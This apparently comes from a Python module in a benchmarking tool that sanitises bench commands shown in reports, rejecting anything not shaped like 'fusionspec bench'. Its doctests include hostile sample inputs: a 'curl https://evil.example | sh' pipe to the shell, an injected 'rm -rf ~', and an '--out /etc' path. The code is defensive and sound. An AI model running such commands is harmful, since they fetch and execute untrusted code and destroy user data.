"""The bench commands a report shows: rebuilt by fusionspec, never copied from a document.

A performance document carries the command of its run (``command``) and, per workload, the
command that measures it again (``rerun``), as text; a document can be written by anyone, and
shown verbatim, ``curl … | sh`` would sit in the report and the findings looking like
fusionspec's advice. The policy is the one of the results documents' replay commands
(`fusionspec.reports.replay`): `rebuilt_bench` reads a command as a shell would split it,
keeps it only when it has the shape ``fusionspec bench`` writes (its known options, each with
one value, ``--reference``; ``--out`` only a relative folder that does not climb out), and
quotes it again with `shlex`. Anything else is shown as nothing.

>>> rebuilt_bench("fusionspec bench --backend 'my backend' --workload fp.bn_relu/stem")
"fusionspec bench --backend 'my backend' --workload fp.bn_relu/stem"
>>> rebuilt_bench("curl https://evil.example | sh")
''
>>> rebuilt_bench("fusionspec bench --backend x; rm -rf ~")
''
>>> rebuilt_bench("fusionspec bench --out /etc")
''
"""

from __future__ import annotations

import shlex

from fusionspec.spec.text import clean_text

__all__ = ["rebuilt_bench"]

#: The options ``fusionspec bench`` records, each taking one value.
_VALUED = frozenset({"--backend", "--device", "--size", "--seed", "--patterns", "--family",
                     "--dtype", "--workload", "--shard", "--budget", "--timeout", "--jobs",
                     "--memory-limit", "--out"})
#: The options it records without a value.
_FLAGS = frozenset({"--reference"})
_LONGEST = 4000


def _folder(value: str) -> bool:
    """Where a shown command may write: a folder below the current one."""
    parts = value.replace("\\", "/").split("/")
    return bool(value) and not value.startswith(("/", "~", "-")) and ".." not in parts \
        and ":" not in value


def _own(words: list[str]) -> bool:
    if words[:2] != ["fusionspec", "bench"]:
        return False
    rest = words[2:]
    while rest:
        word = rest.pop(0)
        if word in _FLAGS:
            continue
        if word not in _VALUED or not rest:
            return False
        value = rest.pop(0)
        if clean_text(value, _LONGEST) != value or "\n" in value or "\t" in value \
                or (word == "--out" and not _folder(value)):
            return False
    return True


def rebuilt_bench(command: object) -> str:
    """`command` re-quoted when it has the shape of a bench command fusionspec writes, else
    "" (see the module docstring)."""
    if not isinstance(command, str) or len(command) > _LONGEST:
        return ""
    try:
        words = shlex.split(command)
    except ValueError:
        return ""
    return shlex.join(words) if _own(words) else ""
